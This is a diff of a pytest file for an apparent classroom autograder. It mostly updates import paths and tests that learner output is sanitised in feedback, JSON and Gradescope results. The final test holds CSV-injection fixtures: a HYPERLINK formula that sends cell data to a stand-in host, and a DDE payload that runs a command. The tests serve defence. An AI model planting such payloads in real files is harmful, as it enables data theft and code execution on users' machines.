@@ -21,7 +21,7 @@ from pathlib import Path
 
 import pytest
 
-from autograder.classroom import gradescope
+from autograder.classroom.write import gradescope
 from autograder.inert import LearnerText, excerpt, inert, markdown
 from autograder.scoring import shown_points
 
@@ -94,10 +94,11 @@ def test_every_writer_writes_points_one_way():
     """One formatter (scoring.points) for the terminal, check(), Gradescope and the class files:
     2.675 of 3.5 points reads "2.68/3.5" in each (the one rounding rule, no trailing zero)."""
     from autograder import report, scoring
-    from autograder.classroom import classfiles, feedback, gradebook
+    from autograder.classroom.write import classfiles, feedback, lms
+
     from mha_exercises.check import verdict
 
-    writers = (report, gradescope, gradebook, classfiles, feedback)
+    writers = (report, gradescope, lms, classfiles, feedback)
     assert all(w.points is scoring.points for w in writers), [w.__name__ for w in writers]
     result = {"id": "softmax", "score": 2.675, "max_score": 3.5, "status": "partial", "cases": [], "feedback": "",
               "notes": []}
@@ -173,7 +174,7 @@ def test_json_and_gradescope_results_hold_no_raw_control(hostile_run):
 def test_check_verdict_and_classroom_writers_inherit_it(hostile_run):
     from rich.console import Console
 
-    from autograder.classroom import feedback, summary
+    from autograder.classroom.write import feedback, summary
     from mha_exercises.check import verdict
 
     _, report, _ = hostile_run
@@ -195,7 +196,7 @@ def test_check_verdict_and_classroom_writers_inherit_it(hostile_run):
 
 
 def test_feedback_html_holds_no_link_or_image_of_the_learner(hostile_run):
-    from autograder.classroom import feedback
+    from autograder.classroom.write import feedback
 
     _, report, _ = hostile_run
     row = {"final": 0, "score": 0, "late": "", "status": "graded"}
@@ -257,7 +258,7 @@ def test_leaking_submission_through_the_cli(tmp_path):
                         + [t["output"] for t in results["tests"] if t["visibility"] == "visible"])
     later = "\n".join(t["output"] for t in results["tests"] if t["visibility"] == "after_published")
     leaked_later = sum(len(m) for m in LEAK.findall(later))
-    assert leaked_later > 10 * gradescope.LEARNER_CHARS  # the attack is real: its inputs are in the details
+    assert leaked_later > 5 * gradescope.LEARNER_CHARS  # the attack is real: its inputs fill the details
     assert 0 < sum(len(m) for m in LEAK.findall(visible)) <= gradescope.LEARNER_CHARS
     assert "expected" in later and "expected" not in visible
     # No number of the hidden cases (the details' values) appears in what is visible at once.
@@ -273,7 +274,7 @@ def test_grades_csv_holds_no_formula_of_the_learner():
     import csv
     import io
 
-    from autograder.classroom.classfiles import grades_csv
+    from autograder.classroom.write.classfiles import grades_csv
 
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"100/100")'
     report = {"max_score": 5.0, "error": "@SUM(1+1)*cmd|' /C calc'!A0\nmore", "exercises": [
